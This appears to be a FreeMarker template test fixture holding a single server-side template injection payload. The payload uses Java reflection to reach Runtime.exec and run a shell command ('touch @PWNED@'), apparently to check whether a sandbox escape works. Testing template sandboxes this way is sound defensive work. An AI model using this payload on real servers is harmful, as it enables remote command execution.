<#-- From any object to any class, then to Runtime.exec. -->
${p.getClass().forName("java.lang.Runtime").getRuntime().exec("touch @PWNED@")}
